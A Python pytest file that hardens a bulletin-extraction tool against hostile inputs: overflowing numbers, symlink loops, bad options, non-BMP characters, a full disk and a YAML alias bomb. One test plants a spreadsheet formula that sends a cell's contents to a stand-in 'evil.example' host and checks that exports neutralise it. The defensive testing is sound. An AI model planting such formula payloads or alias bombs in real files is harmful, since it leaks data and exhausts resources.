"""Issue 24, hardening round 2: hostile files and options, each built here, never a traceback,
never a lost or half-written output."""
from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import regex
from paths import FIXTURES

from extract.cli import main
from extract.model import BulletinResult, Header, ResultStatus
from extract.pipeline import process_file
from extract.run.batch import run_batch
from extract.run.options import BatchOptions
from extract.settings.rules import load_rules

HUGE = "1" + "0" * 320   # beyond any float: float(Decimal(HUGE)) is inf

SHIPPED = load_rules()   # the shipped rules, as a run without --rules uses them


def _draft(dst: Path, *edits: tuple[str, str]) -> Path:
    """The mini bulletin's draft with texts of its word/document.xml replaced."""
    src = FIXTURES / "mini-bulletin.docx"
    with zipfile.ZipFile(src) as old, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename == "word/document.xml":
                text = data.decode()
                for before, after in edits:
                    assert before in text, before
                    text = text.replace(before, after, 1)
                data = text.encode()
            new.writestr(info.filename, data)
    return dst


def _strict_json_lines(path: Path) -> list[dict]:
    def refuse(name: str):
        raise AssertionError(f"{name} in {path.name}")

    return [json.loads(line, parse_constant=refuse) for line in path.read_text(encoding="utf-8").splitlines()]


ALL_FORMATS = ["--format", "csv", "--format", "json", "--format", "parquet", "--format", "xlsx"]


def test_an_infinite_completion_cell_is_an_unparsed_value_in_every_format_and_the_cache(tmp_path, capsys):
    path = _draft(tmp_path / "cell.docx", ("29.00%", HUGE + "%"))
    out = tmp_path / "out"
    for _ in range(2):   # the second run reads the cache
        assert main(["extract", str(path), "--out", str(out), "--jobs", "1", *ALL_FORMATS]) == 0
        rows = _strict_json_lines(out / "indicators.jsonl")
        [row] = [r for r in rows if r["completion_raw"] == HUGE + "%"]
        assert row["completion_ratio"] is None
        assert pd.read_parquet(out / "indicators.parquet")["completion_ratio"].abs().max() <= 1
        csv_ratios = pd.read_csv(out / "indicators.csv", encoding="utf-8-sig")["completion_ratio"]
        assert csv_ratios.abs().max() <= 1
    assert "cache hits" in capsys.readouterr().out
    assert main(["report", str(out), "--html", str(tmp_path / "report.html")]) == 0
    capsys.readouterr()
    assert main(["check", str(path), "--json"]) == 0
    json.loads(capsys.readouterr().out, parse_constant=lambda name: pytest.fail(name))


def test_an_infinite_share_in_the_narrative_is_no_internal_error(tmp_path, rules):
    result = process_file(_draft(tmp_path / "share.docx", ("占比66.7%", f"占比{HUGE}%")), rules)
    assert (result.status, result.error) == ("ok", "")
    assert all(c.percent is None or abs(c.percent) < 1e15 for c in result.claims)


def test_a_twenty_digit_total_is_said_unread_and_every_format_is_written(tmp_path):
    path = _draft(tmp_path / "big.docx", ("共有重点监测指标6项", "共有重点监测指标12345678901234567890项"))
    out = tmp_path / "out"
    assert main(["extract", str(path), "--out", str(out), "--jobs", "1", *ALL_FORMATS]) == 0
    claims = pd.read_parquet(out / "claims.parquet")
    assert claims["total"].isna().all() and len(claims) == 5
    findings = _strict_json_lines(out / "findings.jsonl")
    assert {f["kind"] for f in findings} == {"unchecked"}
    assert any("out of range" in f["detail"] for f in findings)


def test_formula_like_texts_are_neutralised_in_history_outputs_too(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&amp;A1,"查看")'
    path = _draft(tmp_path / "draft.docx", ("地区生产总值增长7%。", hostile), ("县商务局", "@SUM(1+1)"))
    out = tmp_path / "out"
    assert main(["extract", str(path), "--out", str(out), "--jobs", "1", "--format", "json"]) == 0
    assert main(["history", str(out)]) == 0
    for name in ("history.csv", "laggards.csv"):
        text = (out / name).read_text(encoding="utf-8-sig")
        cells = [cell for line in text.splitlines() for cell in line.split(",")]
        assert not any(cell.lstrip('"').startswith(("=", "@")) for cell in cells), name
    history = pd.read_csv(out / "history.csv", encoding="utf-8-sig")
    assert history["target"].str.startswith("'=HYPERLINK").any()
    assert history["responsible_units"].str.startswith("'@SUM").any()
    assert (history["completion_ratio"].dropna() <= 1).all()   # numbers stay numbers


def test_a_symlink_loop_on_the_command_line_is_one_error_row_and_the_batch_goes_on(tmp_path, mini_pdf, capsys):
    loop = tmp_path / "loop.pdf"
    loop.symlink_to(loop)
    out = tmp_path / "out"
    assert main(["extract", str(loop), str(mini_pdf), "--out", str(out), "--jobs", "1"]) == 1
    bulletins = pd.read_csv(out / "bulletins.csv", encoding="utf-8-sig")
    assert list(bulletins["status"]) == ["error", "ok"]
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize("command", ["check", "extract"])
@pytest.mark.parametrize("option", [("--timeout", "inf"), ("--timeout", "nan"), ("--timeout", "-1"),
                                    ("--memory-limit", "-1"), ("--memory-limit", "1")])
def test_options_out_of_range_are_usage_errors(command, option, mini_pdf, tmp_path, capsys):
    args = [command, str(mini_pdf), *option] + (["--out", str(tmp_path / "out")] if command == "extract" else [])
    try:
        code = main(args)
    except SystemExit as exc:   # argparse's own usage error
        code = exc.code
    assert code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    [line] = [line for line in err.splitlines() if option[0] in line and "error" in line or "zhuanbao:" in line]
    assert option[1] in line
    assert not (tmp_path / "out" / "bulletins.csv").exists()


def _laughs(levels: int) -> str:
    """A status.yaml of a few hundred bytes whose aliases expand to 9**levels words."""
    lines = ["words:", "  l0: &l0 [" + ", ".join(["lol"] * 9) + "]"]
    lines += [f"  l{n}: &l{n} [" + ", ".join([f"*l{n - 1}"] * 9) + "]" for n in range(1, levels + 1)]
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(("name", "text", "said"), [
    ("status", _laughs(9), "status.yaml line 3: YAML aliases"),
    ("ocr", "engine: {worker_memory_mb: 0}\n", "ocr.yaml: engine.worker_memory_mb must be a number above 0"),
    ("review", "templates: {percent_mismatch: 5}\n", "review.yaml templates percent_mismatch: must be a list"),
    ("review", "templates: {percent_mismatch: [5]}\n", "review.yaml templates percent_mismatch item 5: must be a text"),
    ("review", "templates: {new_kind: 5}\n", "review.yaml templates: unknown key 'new_kind'"),
])
def test_hostile_rules_are_refused_before_any_file_is_read(name, text, said, mini_pdf, tmp_path, capsys):
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / f"{name}.yaml").write_text(text, encoding="utf-8")
    assert len(text) < 1000
    out = tmp_path / "out"
    assert main(["extract", str(mini_pdf), "--out", str(out), "--rules", str(folder), "--no-cache"]) == 2
    [line] = capsys.readouterr().err.splitlines()
    assert said in line, line
    assert not (out / "bulletins.csv").exists()


def _scan(src: Path, dst: Path) -> Path:
    """Pages as images only: read by OCR."""
    import pypdfium2

    pdf = pypdfium2.PdfDocument(str(src))
    images = [pdf[i].render(scale=0.6).to_pil().convert("L") for i in range(len(pdf))]
    images[0].save(dst, "PDF", save_all=True, append_images=images[1:], resolution=72)
    return dst


def _out_of_memory(path: str, name: str, rules, read, sha256: str, annexes=()) -> BulletinResult:
    """A worker whose file ran out of memory, as process_file reports it (checked in-process below)."""
    return BulletinResult(name, sha256, 0, Header(), [], [], [], status=ResultStatus.ERROR,
                          error="document too large for memory", transient=True)


def test_out_of_memory_during_ocr_is_not_cached_so_a_rerun_tries_again(mini_pdf, tmp_path, monkeypatch):
    pytest.importorskip("rapidocr")
    import extract.ocr.reader as ocr

    def no_memory(*args, **kwargs):
        raise MemoryError

    scan = _scan(mini_pdf, tmp_path / "scan.pdf")
    # in this process (a worker's start method must not decide what the test sees): OCR out of
    # memory is the run's limit, a transient error …
    with monkeypatch.context() as patched:
        patched.setattr(ocr, "ocr_page_blocks", no_memory)
        result = process_file(scan, load_rules())
    assert (result.status, result.error, result.transient) == ("error", "document too large for memory", True)
    # … which the batch does not cache: the rerun converts the file again
    out, cache = tmp_path / "out", tmp_path / "cache"
    assert run_batch([scan], out, SHIPPED, BatchOptions(jobs=1, cache_dir=cache), fn=_out_of_memory).errors == 1
    again = run_batch([scan], out, SHIPPED, BatchOptions(jobs=1, cache_dir=cache))
    assert (again.ok, again.cache_hits) == (1, 0)


def test_a_commit_that_fails_half_way_leaves_the_previous_outputs_whole(mini_pdf, mini_docx, tmp_path, monkeypatch,
                                                                        capsys):
    """A full disk while the tables are completed (the CSVs done, the parquet footers not): before,
    bulletins.csv held the new run and the other tables the old one, plus .part files."""
    import errno

    import pyarrow.parquet as pq

    out = tmp_path / "out"
    formats = ["--format", "csv", "--format", "parquet", "--no-cache", "--jobs", "1"]
    assert main(["extract", str(mini_pdf), "--out", str(out), *formats]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    real_close = pq.ParquetWriter.close
    calls = []

    def full_disk(self):
        calls.append(self)
        if len(calls) == 3:   # the third table's footer
            real_close(self)
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_close(self)

    monkeypatch.setattr(pq.ParquetWriter, "close", full_disk)
    capsys.readouterr()
    assert main(["extract", str(mini_docx), "--out", str(out), *formats]) == 2
    [line] = [line for line in capsys.readouterr().err.splitlines() if line.strip()]   # the progress bar leaves a blank
    assert "No space left on device" in line and "Traceback" not in line
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before


def _beyond_the_bmp_pdf() -> bytes:
    """Helvetica text whose ToUnicode CMap maps A to U+20000 (CJK Ext-B) and B to an emoji: pdfium
    gives each UTF-16 half of those an index of its own."""
    from rawpdf import pdf_from_objects

    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /T def /CMapType 2 def\n"
            b"1 begincodespacerange <00> <FF> endcodespacerange\n"
            b"2 beginbfchar <41> <D840DC00> <42> <D83DDE00> endbfchar\n"
            b"endcmap CMapName currentdict /CMap defineresource pop end end")
    content = b"BT /F1 24 Tf 72 700 Td (Title AB here) Tj ET\nBT /F1 12 Tf 72 600 Td (Body A B) Tj ET"
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(cmap) + cmap + b"\nendstream",
    ])


def test_characters_beyond_the_bmp_are_whole_characters_and_every_output_is_written(mini_pdf, tmp_path):
    from extract.model import TextLine
    from extract.readers.pdf import read_pdf

    path = tmp_path / "ext-b.pdf"
    path.write_bytes(_beyond_the_bmp_pdf())
    text = " ".join(b.text for b in read_pdf(path, SHIPPED).blocks if isinstance(b, TextLine))
    assert "\U00020000\U0001F600" in text and not any(0xD800 <= ord(c) <= 0xDFFF for c in text), text
    out = tmp_path / "out"
    assert main(["extract", str(path), str(mini_pdf), "--out", str(out), "--jobs", "1", *ALL_FORMATS]) == 0
    assert list(pd.read_csv(out / "bulletins.csv", encoding="utf-8-sig")["status"]) == ["skipped", "ok"]


# --- one bad file never costs the batch its outputs: every hostile file above in one batch ------

REFERENCE = Path(__file__).resolve().parents[1] / "corpus" / "pdf" / "fenghuang-2023-13.pdf"
NOT_FINITE = {"inf", "+inf", "-inf", "infinity", "+infinity", "-infinity", "nan", "-nan"}


def _hostile_files(folder: Path) -> list[Path]:
    """Issue 24's first section, each built here: a completion cell of 1 and 320 zeros %, text
    beyond the BMP (CJK Ext-B and an emoji), a 20-digit total in the narrative, a symlink loop."""
    folder.mkdir()
    ext_b = folder / "ext-b.pdf"
    ext_b.write_bytes(_beyond_the_bmp_pdf())
    loop = folder / "loop.pdf"
    loop.symlink_to(loop)
    return [_draft(folder / "cell.docx", ("29.00%", HUGE + "%")), ext_b,
            _draft(folder / "big.docx", ("共有重点监测指标6项", "共有重点监测指标12345678901234567890项")), loop]


def _tables(out: Path, fmt: str) -> dict[str, list[dict]]:
    """Every table of `out` in `fmt` as rows of plain values, read as strictly as each format allows."""
    import csv

    import openpyxl
    import pyarrow.compute as pc
    import pyarrow.parquet as pq

    from extract.outputs.export import TABLES

    if fmt == "xlsx":
        book = openpyxl.load_workbook(out / "zhuanbao.xlsx", read_only=True)
        tables = {}
        for name in TABLES:
            header, *rows = book[name].iter_rows(values_only=True)
            tables[name] = [dict(zip(header, row, strict=True)) for row in rows]
        return tables
    tables = {}
    for name in TABLES:
        if fmt == "csv":   # strict UTF-8: a lone surrogate cannot be in a file that decodes
            text = (out / f"{name}.csv").read_text(encoding="utf-8-sig", errors="strict")
            tables[name] = list(csv.DictReader(text.splitlines()))
        elif fmt == "json":
            tables[name] = _strict_json_lines(out / f"{name}.jsonl")
        else:
            table = pq.read_table(out / f"{name}.parquet")
            for column in table.columns:
                if column.type in ("double", "float"):
                    assert not pc.any(pc.is_nan(column)).as_py() and not pc.any(pc.is_inf(column)).as_py(), name
            tables[name] = table.to_pylist()
    return tables


def _assert_clean(value: object, where: str) -> None:
    if isinstance(value, float):
        assert value == value and abs(value) != float("inf"), where
    elif isinstance(value, str):
        assert value.strip().lower() not in NOT_FINITE, (where, value)
        assert not any(0xD800 <= ord(c) <= 0xDFFF for c in value), (where, value)


def test_hostile_files_beside_the_reference_cost_no_format_its_outputs(tmp_path, capsys):
    """The reference bulletin and every hostile file in one batch, once per format and again from
    the cache: exit 1 (a file failed, the outputs complete), the reference's indicators whole in
    every format, nothing inf, NaN or a lone surrogate anywhere, a row for each hostile file."""
    expected = len(json.loads((REFERENCE.parents[1] / "truth" / "fenghuang-2023-13.json")
                              .read_text(encoding="utf-8"))["indicators"])
    hostile = _hostile_files(tmp_path / "in")
    names = [REFERENCE.name] + [p.name for p in hostile]
    for fmt in ("csv", "json", "parquet", "xlsx"):
        out = tmp_path / fmt
        for run in ("first", "rerun"):
            code = main(["extract", str(REFERENCE), *map(str, hostile), "--out", str(out), "--jobs", "2",
                         "--format", fmt])
            printed = capsys.readouterr()
            assert code == 1, (fmt, run, printed.err)
            assert "Traceback" not in printed.err
            if run == "rerun":
                hits = int(regex.search(r"cache hits\s*│\s*(\d+)", printed.out).group(1))
                assert hits >= len(hostile), (fmt, printed.out)   # the reference and every file read
            tables = _tables(out, fmt)
            for name, rows in tables.items():
                for row in rows:
                    for column, value in row.items():
                        _assert_clean(value, f"{fmt} {run} {name}.{column}")
            bulletins = {Path(row["file"]).name: row for row in tables["bulletins"]}
            assert sorted(bulletins) == sorted(names), (fmt, run)
            assert bulletins[REFERENCE.name]["status"] == "ok"
            mine = [row for row in tables["indicators"] if Path(row["file"]).name == REFERENCE.name]
            assert len(mine) == expected, (fmt, run)
            status = {name: row["status"] for name, row in bulletins.items()}
            assert status == {REFERENCE.name: "ok", "cell.docx": "ok", "ext-b.pdf": "skipped", "big.docx": "ok",
                              "loop.pdf": "error"}, (fmt, run)
            for name in ("ext-b.pdf", "loop.pdf"):   # not a bulletin / not readable: the reason in one line
                reason = bulletins[name]["error"]
                assert reason and "\n" not in reason, (fmt, run, name, reason)
            # the 20-digit total is said unread in an unchecked line; the 1e320% cell is kept as text, unread
            big = bulletins["big.docx"]["file"]
            assert any(f["file"] == big and (f["kind"], f["severity"]) == ("unchecked", "info")
                       and "out of range" in f["detail"] for f in tables["findings"]), (fmt, run)
            [cell] = [row for row in tables["indicators"] if row["completion_raw"] == HUGE + "%"]
            assert cell["completion_ratio"] in (None, ""), (fmt, run)
